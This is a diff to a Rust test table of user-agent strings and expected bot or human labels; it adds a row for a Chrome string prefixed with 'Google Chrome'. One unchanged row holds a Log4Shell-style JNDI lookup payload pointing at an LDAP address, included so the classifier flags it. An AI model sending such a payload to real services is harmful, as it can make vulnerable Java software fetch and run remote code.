@@ -121,6 +121,7 @@ const ROWS: &[(&[u8], &str)] = &[
     (b"Mozilla/5.0 (X11) awww.example", "human no-bot-token"),
     (b"name at gmail dot com", "bot structural:\\bat gmail\\b"),
     (b"${jndi:ldap://198.51.100.7/a}", "bot structural:${"),
+    (b"Google Chrome Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "bot structural:^Google Chrome Mozilla/"),
     // structure: no bot token and no browser grammar at all
     (b"SiteTool/2.9.7", "bot structure:no-browser-shape"),
     (b"ureq/2.9.7", "bot library:ureq/"),
